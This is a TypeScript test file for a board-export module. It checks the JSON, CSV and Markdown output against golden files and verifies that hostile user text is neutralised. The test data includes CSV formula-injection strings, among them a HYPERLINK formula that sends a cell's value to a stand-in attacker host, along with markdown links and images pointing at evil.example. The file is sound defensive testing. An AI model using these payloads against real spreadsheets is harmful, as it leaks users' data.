import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import type Token from 'markdown-it/lib/token.mjs';
import * as XLSX from 'xlsx';
import { type BoardData, countItems, renderBoard } from './board-export';
import type { ExportFormat } from '../../../../contracts/jobs';

const ada = { id: '11111111-1111-4111-8111-111111111111', username: 'ada', displayName: 'Ada Lovelace' };
const grace = { id: '22222222-2222-4222-8222-222222222222', username: 'grace', displayName: 'Grace Hopper' };

/** A known board: the golden files in ./golden are its expected exports. */
export const KNOWN_BOARD: BoardData = {
  board: {
    id: 'b0a7d000-0000-4000-8000-000000000001',
    title: 'Sprint Retro: Q4',
    ownerId: ada.id,
    members: [
      { ...ada, role: 'owner' },
      { ...grace, role: 'editor' },
    ],
    createdAt: '2026-11-01T09:00:00.000Z',
  },
  notes: [
    {
      id: 'a0000000-0000-4000-8000-000000000001',
      boardId: 'b0a7d000-0000-4000-8000-000000000001',
      text: 'Ship the "realtime" core',
      x: 40,
      y: 60.5,
      color: 'yellow',
      version: 3,
      createdBy: ada.id,
      updatedAt: '2026-11-01T09:10:00.000Z',
    },
    {
      id: 'a0000000-0000-4000-8000-000000000002',
      boardId: 'b0a7d000-0000-4000-8000-000000000001',
      text: 'Fewer meetings,\nmore boards',
      x: 300,
      y: 60,
      color: 'pink',
      version: 1,
      createdBy: grace.id,
      updatedAt: '2026-11-01T09:12:00.000Z',
    },
    {
      id: 'a0000000-0000-4000-8000-000000000003',
      boardId: 'b0a7d000-0000-4000-8000-000000000001',
      text: '=HYPERLINK("http://evil.example/?"&A1,"click")\n# Not a heading, [not a link](http://evil.example)',
      x: -20,
      y: 0,
      color: 'blue',
      version: 1,
      createdBy: grace.id,
      updatedAt: '2026-11-01T09:13:00.000Z',
    },
  ],
  messages: [
    {
      id: '1761987600000-0',
      roomId: 'board:b0a7d000-0000-4000-8000-000000000001',
      userId: ada.id,
      content: 'Morning! @grace have a look',
      createdAt: '2026-11-01T09:00:00.000Z',
    },
    {
      id: '1761987660000-0',
      roomId: 'board:b0a7d000-0000-4000-8000-000000000001',
      userId: grace.id,
      content: 'On it',
      createdAt: '2026-11-01T09:01:00.000Z',
    },
  ],
};

const EXPORTED_AT = '2026-11-02T10:00:00.000Z';
const golden = (name: string): string => readFileSync(join(__dirname, 'golden', name), 'utf8');

describe('board export', () => {
  const cases: Array<[ExportFormat, string]> = [
    ['json', 'sprint-retro-q4-b0a7d000.json'],
    ['csv', 'sprint-retro-q4-b0a7d000.csv'],
    ['markdown', 'sprint-retro-q4-b0a7d000.md'],
  ];

  it.each(cases)('writes %s exactly like the golden file', async (format, fileName) => {
    const file = await renderBoard(KNOWN_BOARD, format, EXPORTED_AT, async () => undefined);
    expect(file.name).toBe(fileName);
    expect(file.body).toBe(golden(fileName));
  });

  it('counts one unit of progress per note and message written', async () => {
    let done = 0;
    await renderBoard(KNOWN_BOARD, 'json', EXPORTED_AT, async () => void done++);
    expect(done).toBe(countItems([KNOWN_BOARD], 'json'));
    expect(countItems([KNOWN_BOARD], 'json')).toBe(5);
    expect(countItems([KNOWN_BOARD], 'csv')).toBe(3);
  });
});

/** A board whose users typed what a spreadsheet runs or a markdown viewer renders as structure. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '=1+1'];
const MARKUP = [
  '# Forged heading',
  'Setext heading\n===',
  'Setext two\n---',
  '[click](http://evil.example) and ![pixel](http://evil.example/p.png)',
  '<http://evil.example> <a href="http://evil.example">html</a> [ref]\n\n[ref]: http://evil.example',
  '- forged item\n* another\n+ third\n1. ordered\n2) ordered',
  '***\n___',
  '| a | b |\n| --- | --- |\n| 1 | 2 |',
  '> forged quote',
  '```\nfenced\n```',
  '   ## indented heading',
  '**bold** _em_ `code` ~~strike~~ &amp; &#35;',
];
const evil = { id: '33333333-3333-4333-8333-333333333333', username: 'mallory', displayName: '[Mallory](http://evil.example) # <b>x</b>' };
const HOSTILE: BoardData = {
  board: {
    ...KNOWN_BOARD.board,
    title: 'Board [x](http://evil.example)\n# two',
    members: [
      { ...ada, role: 'owner' },
      { ...evil, role: 'editor' },
    ],
  },
  notes: [...FORMULAS, ...MARKUP].map((text, i) => ({
    ...KNOWN_BOARD.notes[0],
    id: `c0000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
    text,
    x: -10 * i - 5,
    createdBy: evil.id,
  })),
  messages: [{ ...KNOWN_BOARD.messages[0], userId: evil.id, content: '## chat heading?\n# and [a link](http://evil.example)' }],
};

describe('board export of hostile text', () => {
  it('CSV opened as a spreadsheet holds no formula, shows every note as text and keeps negative numbers', async () => {
    const file = await renderBoard(HOSTILE, 'csv', EXPORTED_AT, async () => undefined);
    const sheet = XLSX.read(file.body, { type: 'string' }).Sheets.Sheet1;
    const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')) as Array<[string, XLSX.CellObject]>;
    expect(cells.length).toBe(CSV_COLUMNS_COUNT * (HOSTILE.notes.length + 1));
    for (const [ref, cell] of cells) {
      expect({ ref, formula: cell.f }).toEqual({ ref, formula: undefined });
      if (cell.t === 's') {
        expect(`${ref} ${String(cell.v)}`).not.toMatch(/^\w+ [=+\-@\t\r]/);
      }
    }
    HOSTILE.notes.forEach((note, i) => {
      const row = i + 2;
      expect((sheet[`B${row}`] as XLSX.CellObject).v).toBe(/^[=+\-@\t\r]/.test(note.text) ? `'${note.text}` : note.text);
      expect(sheet[`C${row}`]).toMatchObject({ t: 'n', v: note.x });
    });
  });

  it("Markdown renders users' text as text: only our own headings, no links, images, HTML, lists or rules", async () => {
    const file = await renderBoard(HOSTILE, 'markdown', EXPORTED_AT, async () => undefined);
    const tokens = flatten(new MarkdownIt({ html: true }).parse(file.body, {}));
    const headings = tokens.filter((t) => t.type === 'heading_open').map((t) => t.tag);
    expect(headings).toEqual(['h1', 'h2', ...HOSTILE.notes.map(() => 'h3'), 'h2']);
    const forbidden = [
      'link_open',
      'image',
      'html_block',
      'html_inline',
      'ordered_list_open',
      'hr',
      'table_open',
      'fence',
      'code_block',
      'code_inline',
      'strong_open',
      'em_open',
      's_open',
    ];
    // Our own markup: the chat list and its bold author.
    const ours = tokens.filter((t) => forbidden.includes(t.type));
    expect(ours.map((t) => t.type)).toEqual(['strong_open']);
    expect(tokens.filter((t) => t.type === 'bullet_list_open')).toHaveLength(1);
    expect(tokens.filter((t) => t.type === 'blockquote_open')).toHaveLength(HOSTILE.notes.length);

    // Each note reads back as typed (a paragraph drops leading blanks, as it would for any text).
    const quotes = blockquoteTexts(tokens);
    expect(quotes).toEqual(HOSTILE.notes.map((note) => readable(note.text)));
    const title = tokens[tokens.findIndex((t) => t.type === 'heading_open') + 1].content;
    expect(title).toBe('Board \\[x\\](http://evil.example) \\# two');
  });
});

const CSV_COLUMNS_COUNT = 8;

function flatten(tokens: Token[]): Token[] {
  return tokens.flatMap((t) => [t, ...flatten(t.children ?? [])]);
}

/** The text a reader sees in each blockquote, line by line. */
function blockquoteTexts(tokens: Token[]): string[] {
  const texts: string[] = [];
  let depth = 0;
  for (const token of tokens) {
    if (token.type === 'blockquote_open' && depth++ === 0) {
      texts.push('');
    } else if (token.type === 'blockquote_close') {
      depth--;
    } else if (depth > 0 && (token.type === 'text' || token.type === 'text_special')) {
      texts[texts.length - 1] += token.content;
    } else if (depth > 0 && (token.type === 'softbreak' || token.type === 'paragraph_close')) {
      texts[texts.length - 1] += '\n';
    }
  }
  return texts.map(readable);
}

function readable(text: string): string {
  return text
    .split(/\r\n?|\n/)
    .map((line) => line.trim())
    .filter(Boolean)
    .join('\n');
}
